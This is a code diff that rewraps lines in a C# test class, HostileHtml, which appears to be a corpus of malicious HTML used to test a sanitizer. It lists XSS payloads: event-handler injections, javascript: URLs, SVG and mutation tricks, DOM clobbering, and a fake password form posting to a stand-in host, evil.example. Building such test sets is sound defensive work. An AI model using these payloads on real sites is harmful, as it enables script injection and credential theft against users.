@@ -88,7 +88,8 @@ internal static class HostileHtml
         "<img src=\"cid:logo&quot; onerror=&quot;alert(1)\">",
         "<img longdesc=\"javascript:alert(1)\" usemap=\"#m\"><map name=m><area shape=default href=javascript:alert(1)></map>",
         "<blockquote cite=\"javascript:alert(1)\">x</blockquote><q cite=\"javascript:alert(1)\">x</q>",
-        "<table background=\"javascript:alert(1)\"><tr background=\"https://evil.example/t.gif\"><td background=\"https://evil.example/t.gif\">x",
+        "<table background=\"javascript:alert(1)\"><tr background=\"https://evil.example/t.gif\"><td "
+        + "background=\"https://evil.example/t.gif\">x",
 
         // Styles
         "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x.gif)}</style>x",
@@ -125,14 +126,16 @@ internal static class HostileHtml
         "<object data=\"javascript:alert(1)\"><param name=x value=y></object>",
         "<embed src=\"javascript:alert(1)\">",
         "<applet code=x.class></applet>",
-        "<form action=\"https://evil.example/\"><input name=password type=password><button formaction=javascript:alert(1)>Sign in</button></form>",
+        "<form action=\"https://evil.example/\"><input name=password type=password><button formaction=javascript:alert(1)>Sign in</button>"
+        + "</form>",
         "<form id=test></form><button form=test formaction=javascript:alert(1)>x</button>",
         "<isindex action=javascript:alert(1) type=image>",
         "<textarea><img src=x onerror=alert(1)></textarea><select><option>x</select><keygen autofocus onfocus=alert(1)>",
         "<textarea></textarea/><img src=x onerror=alert(1)>",
         "<dialog open>x</dialog><slot name=x><portal src=https://evil.example></portal>",
         "<img id=cookie name=body><a id=defaultView><a id=defaultView name=location href=x>",
-        "<div id=\"__proto__\" class=\"modal-backdrop show btn btn-primary\" data-bs-toggle=\"modal\" hx-get=\"/x\" hx-trigger=\"load\" aria-label=x role=alert contenteditable tabindex=0 accesskey=x slot=x is=x part=x>x</div>",
+        "<div id=\"__proto__\" class=\"modal-backdrop show btn btn-primary\" data-bs-toggle=\"modal\" hx-get=\"/x\" hx-trigger=\"load\" "
+        + "aria-label=x role=alert contenteditable tabindex=0 accesskey=x slot=x is=x part=x>x</div>",
         "<link rel=dns-prefetch href=//evil.example><link rel=prefetch href=//evil.example/x>",
         "<custom-element onclick=alert(1)>x</custom-element>",
         "<image src=x onerror=alert(1)>",
@@ -148,7 +151,8 @@ internal static class HostileHtml
         "<svg><set attributeName=onmouseover to=alert(1)></svg>",
         "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
         "<svg><foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></body></foreignObject></svg>",
-        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x\"></use></svg>",
+        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x\">"
+        + "</use></svg>",
         "<svg><image href=\"https://evil.example/x.png\" onerror=alert(1)></image></svg>",
         "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
         "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
